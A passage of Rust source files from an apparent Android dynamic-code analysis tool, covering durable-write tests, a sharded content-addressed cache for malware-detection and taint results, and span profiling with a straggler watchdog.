        for i in 0..(CHECKPOINT_SYNC_INTERVAL * 2) {
            w.append_body(&format!("{{\"i\":{i}}}")).unwrap();
        }
        drop(w);
        assert_eq!(state2.snapshot().syncs[StreamKind::Journal.index()], 2);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn retry_budget_is_shared_and_exhaustible() {
        let state = IoState::new(2);
        assert!(state.take_retry());
        assert!(state.take_retry());
        assert!(!state.take_retry());
        assert!(!state.take_retry());
    }

    #[test]
    fn atomic_write_replaces_or_preserves_never_blends() {
        let path = temp_path("atomic");
        let _ = std::fs::remove_file(&path);
        let old = vec!["{\"v\":1}".to_string()];
        atomic_write_frames(&path, &old, None).unwrap();
        let old_bytes = std::fs::read(&path).unwrap();

        // A crash scheduled on the rewrite op leaves the old bytes.
        let harness = IoHarness::new(Some(0), None);
        let new = vec!["{\"v\":2}".to_string(), "{\"v\":3}".to_string()];
        atomic_write_frames(&path, &new, Some(&harness)).unwrap();
        assert!(harness.crashed());
        assert_eq!(std::fs::read(&path).unwrap(), old_bytes);

        // Fault-free rewrite replaces the content wholesale.
        atomic_write_frames(&path, &new, None).unwrap();
        let scan = scan_path(&path).unwrap().expect("file exists");
        assert!(scan.is_clean());
        assert_eq!(scan.bodies, new);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn disk_full_errors_are_classified() {
        let e = disk_full_error();
        assert!(is_disk_full(&e));
        assert!(!is_transient(&e));
        let t = transient_error();
        assert!(is_transient(&t));
        assert!(!is_disk_full(&t));
        let plain = io::Error::new(io::ErrorKind::PermissionDenied, "nope");
        assert!(!is_disk_full(&plain));
        assert!(!is_transient(&plain));
    }
}
