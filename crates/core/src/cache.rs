//! Content-addressed analysis cache.
//!
//! DyDroid scales to tens of thousands of apps because the static
//! analysis of intercepted code operates on *unique files*, not on
//! per-load occurrences: thousands of corpus apps load byte-identical
//! third-party SDK payloads. [`AnalysisCache`] memoizes the expensive
//! per-binary work — MAIL translation + ACFG signature construction +
//! malware matching ([`BinarySig::build`] / `detect_sig`) and the taint
//! analysis ([`TaintAnalysis::run`]) — keyed by a content hash of the
//! intercepted bytes, shared across all sweep workers. Each unique
//! payload is analysed exactly once per sweep, however many apps load
//! it and however many environment re-runs replay it.
//!
//! The map is sharded (lock striping) so workers rarely contend, and
//! each entry is a [`OnceLock`]: when two workers race on the same
//! unseen payload, one computes while the other blocks on the cell
//! rather than duplicating the work — the *exactly once* invariant
//! holds even under contention. See `DESIGN.md`, "Content-addressed
//! analysis cache".

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

use dydroid_analysis::acfg::{BinarySig, FamilyMatch};
use dydroid_analysis::mail::CodeBinary;
use dydroid_analysis::taint::{Leak, TaintAnalysis};
use dydroid_analysis::MalwareDetector;
use serde::{Deserialize, Serialize};

use crate::telemetry::Telemetry;

/// Default shard count (power of two) when the config leaves sizing to us.
pub const DEFAULT_SHARDS: usize = 64;

/// 64-bit FNV-1a over the binary content, with a final avalanche mix so
/// nearby inputs spread across shards.
pub fn content_hash(data: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for &b in data {
        h = (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3);
    }
    // splitmix64 finalizer.
    h = (h ^ (h >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    h = (h ^ (h >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    h ^ (h >> 31)
}

/// The memoized outcome of analysing one unique binary: everything the
/// pipeline derives from the bytes alone (the per-app parts — path,
/// entity attribution, vulnerability classification — stay per-load).
#[derive(Debug, Clone, PartialEq)]
pub enum BinaryVerdict {
    /// The bytes parse as neither DEX nor a native library.
    Unparsable,
    /// Parsed and analysed.
    Parsed {
        /// Whether the binary is native code.
        native: bool,
        /// Malware-family match, if any.
        malware: Option<FamilyMatch>,
        /// Taint leaks (empty for native binaries).
        leaks: Vec<Leak>,
    },
}

/// Monotonic cache counters; [`CacheStats::since`] gives per-run deltas.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CacheStats {
    /// Lookups answered from the cache.
    pub hits: u64,
    /// Lookups that had to compute (one per unique binary when enabled;
    /// one per lookup when disabled).
    pub misses: u64,
    /// Unique binaries currently cached (absolute, not a delta).
    pub entries: u64,
    /// `BinarySig::build` invocations (parsed binaries only).
    pub sig_builds: u64,
    /// `TaintAnalysis::run` invocations (DEX binaries only).
    pub taint_runs: u64,
}

impl CacheStats {
    /// Fraction of lookups served from the cache, in `[0, 1]`.
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }

    /// The counter deltas accumulated since `earlier` (entries stays
    /// absolute — it is a size, not a rate).
    pub fn since(&self, earlier: &CacheStats) -> CacheStats {
        CacheStats {
            hits: self.hits - earlier.hits,
            misses: self.misses - earlier.misses,
            entries: self.entries,
            sig_builds: self.sig_builds - earlier.sig_builds,
            taint_runs: self.taint_runs - earlier.taint_runs,
        }
    }
}

type Shard = Mutex<HashMap<u64, Arc<OnceLock<Arc<BinaryVerdict>>>>>;

/// The corpus-wide, content-addressed cache (see module docs).
#[derive(Debug)]
pub struct AnalysisCache {
    /// `None` when caching is disabled — every lookup computes fresh.
    shards: Option<Box<[Shard]>>,
    hits: AtomicU64,
    misses: AtomicU64,
    sig_builds: AtomicU64,
    taint_runs: AtomicU64,
    telemetry: Telemetry,
}

impl AnalysisCache {
    /// Creates a cache. `shards` is rounded up to a power of two;
    /// `0` selects [`DEFAULT_SHARDS`].
    pub fn new(shards: usize) -> Self {
        let n = if shards == 0 {
            DEFAULT_SHARDS
        } else {
            shards.next_power_of_two()
        };
        AnalysisCache {
            shards: Some((0..n).map(|_| Mutex::new(HashMap::new())).collect()),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            sig_builds: AtomicU64::new(0),
            taint_runs: AtomicU64::new(0),
            telemetry: Telemetry::disabled(),
        }
    }

    /// A pass-through cache: every lookup computes, nothing is stored.
    /// The counters still run, so baselines report total analysis work.
    pub fn disabled() -> Self {
        AnalysisCache {
            shards: None,
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            sig_builds: AtomicU64::new(0),
            taint_runs: AtomicU64::new(0),
            telemetry: Telemetry::disabled(),
        }
    }

    /// Attaches a telemetry handle: every cold compute then records its
    /// malware-detection and taint phase latencies into the
    /// `phase.malware_detect.us` / `phase.taint.us` histograms.
    pub fn with_telemetry(mut self, telemetry: Telemetry) -> Self {
        self.telemetry = telemetry;
        self
    }

    /// Whether lookups are memoized.
    pub fn is_enabled(&self) -> bool {
        self.shards.is_some()
    }

    /// Analyses one intercepted binary through the cache: parse, build
    /// the ACFG signature, match malware families, and (for DEX) run the
    /// taint analysis — at most once per unique content when enabled.
    pub fn analyze(
        &self,
        data: &[u8],
        detector: &MalwareDetector,
        taint: &TaintAnalysis,
    ) -> Arc<BinaryVerdict> {
        let Some(shards) = &self.shards else {
            self.misses.fetch_add(1, Ordering::Relaxed);
            return Arc::new(self.compute(data, detector, taint));
        };
        let key = content_hash(data);
        let cell = {
            let shard = &shards[(key as usize) & (shards.len() - 1)];
            let mut map = shard
                .lock()
                .unwrap_or_else(std::sync::PoisonError::into_inner);
            Arc::clone(map.entry(key).or_default())
        };
        // Initialisation happens outside the shard lock, so a slow
        // payload never blocks unrelated keys in the same shard.
        let mut computed = false;
        let verdict = cell.get_or_init(|| {
            computed = true;
            Arc::new(self.compute(data, detector, taint))
        });
        if computed {
            self.misses.fetch_add(1, Ordering::Relaxed);
        } else {
            self.hits.fetch_add(1, Ordering::Relaxed);
        }
        Arc::clone(verdict)
    }

    /// Analyses a batch of intercepted binaries, resolving cache misses
    /// in parallel: when at least two **distinct uncached** contents are
    /// present, the per-item lookups fan out over a scoped crossbeam
    /// pool (bounded by `workers`) so the expensive computes — signature
    /// build, indexed malware matching, taint — overlap instead of
    /// queueing. Otherwise the batch is served inline: spawning threads
    /// to serve cache hits would cost more than the lookups.
    ///
    /// Each item still goes through [`AnalysisCache::analyze`] exactly
    /// once, so hit/miss counters and the exactly-once invariant are
    /// identical to the sequential path, and results come back in input
    /// order.
    pub fn analyze_batch(
        &self,
        items: &[&[u8]],
        detector: &MalwareDetector,
        taint: &TaintAnalysis,
        workers: usize,
    ) -> Vec<Arc<BinaryVerdict>> {
        let fan_out = workers.min(items.len());
        if fan_out > 1 && self.uncached_distinct(items) > 1 {
            let slots: Vec<OnceLock<Arc<BinaryVerdict>>> =
                (0..items.len()).map(|_| OnceLock::new()).collect();
            let next = AtomicU64::new(0);
            let scope_result = crossbeam::thread::scope(|scope| {
                for _ in 0..fan_out {
                    scope.spawn(|_| loop {
                        let i = next.fetch_add(1, Ordering::Relaxed) as usize;
                        if i >= items.len() {
                            break;
                        }
                        let _ = slots[i].set(self.analyze(items[i], detector, taint));
                    });
                }
            });
            if scope_result.is_err() {
                eprintln!("dydroid: a batch-analysis thread panicked; finishing inline");
            }
            // A panicked worker leaves empty slots behind; fill them on
            // the calling thread (the cache dedups any repeat work).
            slots
                .into_iter()
                .enumerate()
                .map(|(i, slot)| {
                    slot.into_inner()
                        .unwrap_or_else(|| self.analyze(items[i], detector, taint))
                })
                .collect()
        } else {
            items
                .iter()
                .map(|data| self.analyze(data, detector, taint))
                .collect()
        }
    }

    /// How many distinct contents of `items` have no completed cache
    /// entry yet (0 when caching is disabled — the batch path then has
    /// no dedup to exploit, and nested sweep parallelism already covers
    /// the baseline).
    fn uncached_distinct(&self, items: &[&[u8]]) -> usize {
        let Some(shards) = &self.shards else {
            return 0;
        };
        let mut seen = std::collections::HashSet::new();
        let mut missing = 0;
        for data in items {
            let key = content_hash(data);
            if !seen.insert(key) {
                continue;
            }
            let shard = &shards[(key as usize) & (shards.len() - 1)];
            let map = shard
                .lock()
                .unwrap_or_else(std::sync::PoisonError::into_inner);
            if map.get(&key).and_then(|cell| cell.get()).is_none() {
                missing += 1;
            }
        }
        missing
    }

    fn compute(
        &self,
        data: &[u8],
        detector: &MalwareDetector,
        taint: &TaintAnalysis,
    ) -> BinaryVerdict {
        let Ok(code) = CodeBinary::from_bytes(data) else {
            return BinaryVerdict::Unparsable;
        };
        self.sig_builds.fetch_add(1, Ordering::Relaxed);
        let detect_started = std::time::Instant::now();
        let sig = BinarySig::build(&code);
        let malware = detector.detect_sig(&sig);
        if self.telemetry.is_enabled() {
            self.telemetry.record(
                "phase.malware_detect.us",
                detect_started.elapsed().as_micros() as u64,
            );
        }
        let leaks = if let CodeBinary::Dex(dex) = &code {
            self.taint_runs.fetch_add(1, Ordering::Relaxed);
            let taint_started = std::time::Instant::now();
            let leaks = taint.run(dex);
            if self.telemetry.is_enabled() {
                self.telemetry
                    .record("phase.taint.us", taint_started.elapsed().as_micros() as u64);
            }
            leaks
        } else {
            Vec::new()
        };
        BinaryVerdict::Parsed {
            native: code.is_native(),
            malware,
            leaks,
        }
    }

    /// A snapshot of the counters.
    pub fn stats(&self) -> CacheStats {
        let entries = self
            .shards
            .as_ref()
            .map(|shards| {
                shards
                    .iter()
                    .map(|s| {
                        s.lock()
                            .unwrap_or_else(std::sync::PoisonError::into_inner)
                            .len() as u64
                    })
                    .sum()
            })
            .unwrap_or(0);
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            entries,
            sig_builds: self.sig_builds.load(Ordering::Relaxed),
            taint_runs: self.taint_runs.load(Ordering::Relaxed),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::native::Arch;
    use dydroid_dex::{DexFile, NativeLibrary};

    fn fixtures() -> (MalwareDetector, TaintAnalysis) {
        (MalwareDetector::new(), TaintAnalysis::new())
    }

    #[test]
    fn content_hash_is_stable_and_content_sensitive() {
        assert_eq!(content_hash(b"abc"), content_hash(b"abc"));
        assert_ne!(content_hash(b"abc"), content_hash(b"abd"));
        assert_ne!(content_hash(b""), content_hash(b"\0"));
    }

    #[test]
    fn memoizes_by_content() {
        let cache = AnalysisCache::new(4);
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        let a = cache.analyze(&dex, &detector, &taint);
        let b = cache.analyze(&dex, &detector, &taint);
        assert_eq!(a, b);
        let stats = cache.stats();
        assert_eq!(stats.misses, 1);
        assert_eq!(stats.hits, 1);
        assert_eq!(stats.entries, 1);
        assert_eq!(stats.sig_builds, 1);
        assert_eq!(stats.taint_runs, 1);
    }

    #[test]
    fn native_binaries_skip_taint() {
        let cache = AnalysisCache::new(1);
        let (detector, taint) = fixtures();
        let lib = NativeLibrary::new("l.so", Arch::Arm).to_bytes();
        let v = cache.analyze(&lib, &detector, &taint);
        assert!(matches!(&*v, BinaryVerdict::Parsed { native: true, .. }));
        assert_eq!(cache.stats().taint_runs, 0);
        assert_eq!(cache.stats().sig_builds, 1);
    }

    #[test]
    fn unparsable_is_cached_too() {
        let cache = AnalysisCache::new(2);
        let (detector, taint) = fixtures();
        assert_eq!(
            *cache.analyze(b"junk", &detector, &taint),
            BinaryVerdict::Unparsable
        );
        assert_eq!(
            *cache.analyze(b"junk", &detector, &taint),
            BinaryVerdict::Unparsable
        );
        let stats = cache.stats();
        assert_eq!((stats.misses, stats.hits, stats.sig_builds), (1, 1, 0));
    }

    #[test]
    fn disabled_cache_recomputes_every_time() {
        let cache = AnalysisCache::disabled();
        assert!(!cache.is_enabled());
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        let a = cache.analyze(&dex, &detector, &taint);
        let b = cache.analyze(&dex, &detector, &taint);
        assert_eq!(a, b);
        let stats = cache.stats();
        assert_eq!(stats.misses, 2);
        assert_eq!(stats.hits, 0);
        assert_eq!(stats.entries, 0);
        assert_eq!(stats.sig_builds, 2);
    }

    #[test]
    fn exactly_once_under_contention() {
        let cache = std::sync::Arc::new(AnalysisCache::new(8));
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        crossbeam::thread::scope(|scope| {
            for _ in 0..8 {
                let cache = std::sync::Arc::clone(&cache);
                let dex = dex.clone();
                let detector = &detector;
                let taint = &taint;
                scope.spawn(move |_| {
                    for _ in 0..50 {
                        cache.analyze(&dex, detector, taint);
                    }
                });
            }
        })
        .expect("no panics");
        let stats = cache.stats();
        assert_eq!(stats.misses, 1, "one compute per unique binary");
        assert_eq!(stats.sig_builds, 1);
        assert_eq!(stats.hits, 8 * 50 - 1);
    }

    #[test]
    fn batch_preserves_order_and_counters() {
        let cache = AnalysisCache::new(4);
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        let lib = NativeLibrary::new("l.so", Arch::Arm).to_bytes();
        let junk = b"junk".to_vec();
        let items: Vec<&[u8]> = vec![&dex, &lib, &junk, &dex];
        let verdicts = cache.analyze_batch(&items, &detector, &taint, 8);
        assert_eq!(verdicts.len(), 4);
        assert_eq!(verdicts[0], verdicts[3], "same content, same verdict");
        assert_eq!(*verdicts[2], BinaryVerdict::Unparsable);
        assert!(matches!(
            &*verdicts[1],
            BinaryVerdict::Parsed { native: true, .. }
        ));
        let stats = cache.stats();
        // One analyze per item: 3 unique misses + 1 duplicate hit,
        // exactly what the sequential path would count.
        assert_eq!(stats.misses, 3);
        assert_eq!(stats.hits, 1);
        assert_eq!(stats.entries, 3);
        assert_eq!(stats.sig_builds, 2, "junk never builds a signature");
    }

    #[test]
    fn warm_batch_serves_inline() {
        let cache = AnalysisCache::new(4);
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        cache.analyze(&dex, &detector, &taint);
        let items: Vec<&[u8]> = vec![&dex, &dex];
        assert_eq!(cache.uncached_distinct(&items), 0);
        let verdicts = cache.analyze_batch(&items, &detector, &taint, 8);
        assert_eq!(verdicts[0], verdicts[1]);
        let stats = cache.stats();
        assert_eq!((stats.misses, stats.hits), (1, 2));
    }

    #[test]
    fn disabled_cache_batch_computes_inline() {
        let cache = AnalysisCache::disabled();
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        let items: Vec<&[u8]> = vec![&dex, &dex];
        assert_eq!(cache.uncached_distinct(&items), 0);
        let verdicts = cache.analyze_batch(&items, &detector, &taint, 8);
        assert_eq!(verdicts[0], verdicts[1]);
        assert_eq!(cache.stats().misses, 2);
    }

    #[test]
    fn stats_since_subtracts_counters() {
        let cache = AnalysisCache::new(1);
        let (detector, taint) = fixtures();
        let dex = DexFile::new().to_bytes();
        cache.analyze(&dex, &detector, &taint);
        let mark = cache.stats();
        cache.analyze(&dex, &detector, &taint);
        let delta = cache.stats().since(&mark);
        assert_eq!((delta.hits, delta.misses), (1, 0));
        assert_eq!(delta.entries, 1, "entries stays absolute");
        assert!(delta.hit_rate() > 0.99);
    }

    #[test]
    fn shard_count_rounds_to_power_of_two() {
        let cache = AnalysisCache::new(3);
        assert_eq!(cache.shards.as_ref().unwrap().len(), 4);
        let cache = AnalysisCache::new(0);
        assert_eq!(cache.shards.as_ref().unwrap().len(), DEFAULT_SHARDS);
    }
}
