//! Span-derived profiling and the straggler watchdog — the analytical
//! half of the sweep observatory (DESIGN.md §5j).
//!
//! The telemetry layer (§5d) records one [`SpanRecord`] per phase per
//! app. This module folds that span tree into a **profile**: for every
//! distinct root-to-leaf name path, how many spans ran there, their
//! total (inclusive) time, and their self time (total minus child
//! time). The profile is exportable as Brendan-Gregg collapsed-stack
//! ("folded") lines — `app;monkey 1234` — which `flamegraph.pl` and
//! every folded-stack tool consume directly.
//!
//! The same profile is computable two ways, and the two are
//! byte-identical over the same span set (a differential test holds
//! this):
//!
//! - **live**, from the in-memory span store fed by `SpanGuard` drops
//!   ([`SpanProfile::from_spans`] over `Telemetry::spans()`), and
//! - **offline**, by replaying the durable (possibly sharded) event
//!   streams of a journaled run ([`SpanProfile::replay_journal`]).
//!
//! The [`Watchdog`] rides the same data on the *deterministic virtual
//! clock*: it keeps a running median of per-app virtual cost and flags
//! any app exceeding `k×` that median as a straggler, so one wedged app
//! in a corpus-scale sweep is named while it is happening instead of
//! being averaged away post-hoc.

use std::collections::{BTreeMap, HashMap};
use std::fmt::Write as _;
use std::io;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};

use crate::durable::scan_path;
use crate::sweep::Journal;
use crate::telemetry::SpanRecord;

/// Parent-chain walk bound: a span nested deeper than this (impossible
/// for well-formed streams; cycles only via corruption) is rooted where
/// the walk stopped instead of looping forever.
const MAX_PROFILE_DEPTH: usize = 64;

/// Apps the watchdog observes before it starts flagging, so the running
/// median is meaningful before anything is called a straggler.
pub const WATCHDOG_WARMUP: usize = 16;

/// Aggregate of every span that ran at one name path.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProfileEntry {
    /// Number of spans aggregated at this path.
    pub count: u64,
    /// Inclusive time: sum of the spans' durations, in microseconds.
    pub total_us: u64,
    /// Self time: inclusive time minus time attributed to child spans,
    /// in microseconds.
    pub self_us: u64,
}

/// A self-time/total-time profile over a span tree, keyed by the
/// root-to-leaf path of span names.
///
/// Paths are stored in a `BTreeMap`, so every export is deterministic
/// for a given span set regardless of the order spans were recorded or
/// replayed in — the property the live-vs-offline differential test
/// pins down to the byte.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SpanProfile {
    nodes: BTreeMap<Vec<String>, ProfileEntry>,
}

impl SpanProfile {
    /// Builds the profile from a span set (any order).
    ///
    /// Each span contributes its duration to its own path's total, and
    /// its duration minus its direct children's durations to the path's
    /// self time. A span whose parent id is absent from the set (e.g. a
    /// phase span whose app span was lost to a crash) roots its path at
    /// the deepest ancestor present.
    pub fn from_spans(spans: &[SpanRecord]) -> SpanProfile {
        let mut by_id: HashMap<u64, usize> = HashMap::with_capacity(spans.len());
        for (i, s) in spans.iter().enumerate() {
            by_id.insert(s.id, i);
        }
        let mut child_us: HashMap<u64, u64> = HashMap::new();
        for s in spans {
            if s.parent != 0 && by_id.contains_key(&s.parent) {
                *child_us.entry(s.parent).or_insert(0) += s.dur_us;
            }
        }
        let mut nodes: BTreeMap<Vec<String>, ProfileEntry> = BTreeMap::new();
        for s in spans {
            let mut path = vec![s.name.clone()];
            let mut cursor = s.parent;
            for _ in 0..MAX_PROFILE_DEPTH {
                if cursor == 0 {
                    break;
                }
                match by_id.get(&cursor) {
                    Some(&i) => {
                        path.push(spans[i].name.clone());
                        cursor = spans[i].parent;
                    }
                    None => break,
                }
            }
            path.reverse();
            let entry = nodes.entry(path).or_default();
            entry.count += 1;
            entry.total_us += s.dur_us;
            entry.self_us += s
                .dur_us
                .saturating_sub(child_us.get(&s.id).copied().unwrap_or(0));
        }
        SpanProfile { nodes }
    }

    /// Builds the profile offline by replaying framed event streams:
    /// every `{"type":"span"}` body in each stream's valid prefix is a
    /// span. Torn or corrupt tails end that stream's replay (same
    /// tolerance as `Telemetry::stitch_from`); missing files are empty.
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than a stream file not existing.
    pub fn from_event_streams(paths: &[PathBuf]) -> io::Result<SpanProfile> {
        let mut spans = Vec::new();
        for path in paths {
            let Some(scan) = scan_path(path)? else {
                continue;
            };
            for body in &scan.bodies {
                let Ok(value) = serde_json::from_str::<serde::Value>(body) else {
                    break;
                };
                if value.get("type").and_then(|t| t.as_str()) == Some("span") {
                    if let Ok(record) = SpanRecord::from_json(&value) {
                        spans.push(record);
                    }
                }
            }
        }
        spans.sort_by_key(|s| (s.start_us, s.id));
        Ok(SpanProfile::from_spans(&spans))
    }

    /// [`SpanProfile::from_event_streams`] over a journal's full stream
    /// layout: the base event stream plus every discovered shard's.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from shard discovery or stream reads.
    pub fn replay_journal(journal: &Journal) -> io::Result<SpanProfile> {
        let mut paths = vec![journal.events_path()];
        for k in journal.discover_shards()? {
            paths.push(journal.shard_events_path(k));
        }
        SpanProfile::from_event_streams(&paths)
    }

    /// Number of distinct span paths in the profile.
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    /// True when the profile holds no spans at all.
    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// The profile's entries, in path order.
    pub fn entries(&self) -> impl Iterator<Item = (&[String], &ProfileEntry)> {
        self.nodes.iter().map(|(p, e)| (p.as_slice(), e))
    }

    /// Brendan-Gregg collapsed-stack export: one
    /// `name;name;… self_µs\n` line per path, in path order. Feed the
    /// output straight to `flamegraph.pl`.
    pub fn folded(&self) -> String {
        let mut out = String::new();
        for (path, entry) in &self.nodes {
            out.push_str(&path.join(";"));
            let _ = writeln!(out, " {}", entry.self_us);
        }
        out
    }

    /// Human-readable profile table, hottest self-time first.
    pub fn render(&self) -> String {
        let mut rows: Vec<(&Vec<String>, &ProfileEntry)> = self.nodes.iter().collect();
        rows.sort_by(|a, b| b.1.self_us.cmp(&a.1.self_us).then_with(|| a.0.cmp(b.0)));
        let width = rows
            .iter()
            .map(|(p, _)| p.join(";").len())
            .max()
            .unwrap_or(4)
            .max(4);
        let mut out = String::new();
        let _ = writeln!(
            out,
            "  {:<width$}  {:>9}  {:>12}  {:>12}",
            "path", "count", "total µs", "self µs"
        );
        for (path, e) in rows {
            let _ = writeln!(
                out,
                "  {:<width$}  {:>9}  {:>12}  {:>12}",
                path.join(";"),
                e.count,
                e.total_us,
                e.self_us
            );
        }
        out
    }
}

/// One flagged straggler: an app whose deterministic virtual cost
/// exceeded `k×` the running per-app median when it completed.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct StragglerEntry {
    /// The app's package name.
    pub package: String,
    /// The app's virtual cost in microseconds.
    pub virtual_us: u64,
    /// The running median virtual cost when the app was flagged.
    pub median_virtual_us: u64,
    /// Wall-clock phase breakdown from the app's child spans:
    /// `(phase name, µs)`, largest first.
    pub phases: Vec<(String, u64)>,
}

/// Running-median straggler detector on the deterministic virtual
/// clock.
///
/// The sweep collector feeds it one observation per completed
/// dynamic-phase app. After [`WATCHDOG_WARMUP`] observations it flags
/// any app whose virtual cost exceeds `k×` the running median —
/// deterministic across worker counts and interleaves, because the
/// virtual clock is. Noise-level variance (a few percent around the
/// median) never trips a `k` of the default 4.0, while a planted 10×
/// app always does.
#[derive(Debug)]
pub struct Watchdog {
    k: f64,
    sorted: Vec<u64>,
    flagged: u64,
}

impl Watchdog {
    /// Detector flagging apps over `k` × the running median; `k ≤ 1.0`
    /// disables flagging (observations are still counted).
    pub fn new(k: f64) -> Self {
        Watchdog {
            k,
            sorted: Vec::new(),
            flagged: 0,
        }
    }

    /// Notes one completed app's virtual cost. Returns the running
    /// median it was judged against when the app is flagged as a
    /// straggler, `None` otherwise.
    pub fn observe(&mut self, virtual_us: u64) -> Option<u64> {
        let mut verdict = None;
        if self.k > 1.0 && self.sorted.len() >= WATCHDOG_WARMUP {
            let median = self.sorted[self.sorted.len() / 2];
            if median > 0 && virtual_us as f64 > self.k * median as f64 {
                self.flagged += 1;
                verdict = Some(median);
            }
        }
        let pos = self.sorted.partition_point(|&v| v <= virtual_us);
        self.sorted.insert(pos, virtual_us);
        verdict
    }

    /// Observations so far.
    pub fn observed(&self) -> usize {
        self.sorted.len()
    }

    /// Apps flagged so far.
    pub fn flagged(&self) -> u64 {
        self.flagged
    }

    /// The current running median virtual cost (0 before any
    /// observation).
    pub fn median(&self) -> u64 {
        if self.sorted.is_empty() {
            0
        } else {
            self.sorted[self.sorted.len() / 2]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn span(id: u64, parent: u64, name: &str, start_us: u64, dur_us: u64) -> SpanRecord {
        SpanRecord {
            id,
            parent,
            name: name.to_string(),
            tid: 1,
            start_us,
            dur_us,
            fields: Vec::new(),
        }
    }

    #[test]
    fn profile_attributes_self_and_total_time() {
        let spans = vec![
            span(1, 0, "app", 0, 100),
            span(2, 1, "static", 0, 30),
            span(3, 1, "monkey", 30, 50),
            span(4, 0, "app", 100, 40),
            span(5, 4, "monkey", 100, 40),
        ];
        let profile = SpanProfile::from_spans(&spans);
        assert_eq!(profile.len(), 3);
        let get = |names: &[&str]| {
            let key: Vec<String> = names.iter().map(|s| s.to_string()).collect();
            profile
                .entries()
                .find(|(p, _)| *p == key.as_slice())
                .map(|(_, e)| *e)
                .expect("path present")
        };
        let app = get(&["app"]);
        assert_eq!(app.count, 2);
        assert_eq!(app.total_us, 140);
        // First app: 100 − (30 + 50) = 20 self; second: 40 − 40 = 0.
        assert_eq!(app.self_us, 20);
        let monkey = get(&["app", "monkey"]);
        assert_eq!(monkey.count, 2);
        assert_eq!(monkey.total_us, 90);
        assert_eq!(monkey.self_us, 90, "leaves keep all their time");
        assert_eq!(get(&["app", "static"]).self_us, 30);
    }

    #[test]
    fn folded_output_is_order_independent() {
        let mut spans = vec![
            span(1, 0, "app", 0, 100),
            span(2, 1, "monkey", 10, 60),
            span(3, 0, "sweep", 0, 500),
        ];
        let forward = SpanProfile::from_spans(&spans).folded();
        spans.reverse();
        let reversed = SpanProfile::from_spans(&spans).folded();
        assert_eq!(forward, reversed, "profile must not depend on span order");
        // Folded lines parse as `path space value`.
        assert_eq!(forward.lines().count(), 3);
        for line in forward.lines() {
            let (path, value) = line.rsplit_once(' ').expect("path value");
            assert!(!path.is_empty());
            value.parse::<u64>().expect("numeric self time");
        }
        assert!(forward.contains("app;monkey 60\n"));
        assert!(forward.contains("app 40\n"));
    }

    #[test]
    fn orphan_spans_root_at_the_deepest_present_ancestor() {
        // Parent id 99 is absent (lost to a crash): the child's path
        // starts at itself instead of looping or panicking.
        let spans = vec![span(2, 99, "monkey", 0, 50)];
        let profile = SpanProfile::from_spans(&spans);
        let (path, entry) = profile.entries().next().expect("one path");
        assert_eq!(path, ["monkey".to_string()].as_slice());
        assert_eq!(entry.self_us, 50);
    }

    #[test]
    fn cyclic_parent_links_terminate() {
        // Corruption could make two spans each other's parent; the walk
        // must stop at the depth bound.
        let spans = vec![span(1, 2, "a", 0, 10), span(2, 1, "b", 0, 10)];
        let profile = SpanProfile::from_spans(&spans);
        assert_eq!(profile.len(), 2);
    }

    #[test]
    fn watchdog_flags_planted_straggler_not_noise() {
        let mut dog = Watchdog::new(4.0);
        // Noise-level variance around 100 µs: never flagged.
        for i in 0..32u64 {
            let v = 95 + (i * 7) % 11; // 95..=105
            assert_eq!(dog.observe(v), None, "noise flagged at i={i}");
        }
        assert_eq!(dog.flagged(), 0);
        let median = dog.median();
        assert!((95..=105).contains(&median));
        // A planted 10× app is flagged against that median.
        let verdict = dog.observe(median * 10);
        assert_eq!(verdict, Some(median));
        assert_eq!(dog.flagged(), 1);
        // The straggler barely moves the median; normal apps still pass.
        assert_eq!(dog.observe(104), None);
    }

    #[test]
    fn watchdog_warms_up_and_can_be_disabled() {
        let mut dog = Watchdog::new(4.0);
        // Before warmup even a huge outlier passes silently.
        for _ in 0..WATCHDOG_WARMUP - 1 {
            assert_eq!(dog.observe(100), None);
        }
        assert_eq!(dog.observe(100_000), None, "still warming up");
        assert_eq!(dog.observed(), WATCHDOG_WARMUP);
        // k ≤ 1.0 disables flagging entirely.
        let mut off = Watchdog::new(1.0);
        for _ in 0..WATCHDOG_WARMUP * 2 {
            off.observe(100);
        }
        assert_eq!(off.observe(100_000), None);
        assert_eq!(off.flagged(), 0);
    }

    #[test]
    fn render_lists_hottest_self_time_first() {
        let spans = vec![
            span(1, 0, "app", 0, 100),
            span(2, 1, "monkey", 0, 80),
            span(3, 0, "sweep", 0, 10),
        ];
        let table = SpanProfile::from_spans(&spans).render();
        let lines: Vec<&str> = table.lines().collect();
        assert!(lines[0].contains("path"));
        assert!(lines[1].contains("app;monkey"), "got: {}", lines[1]);
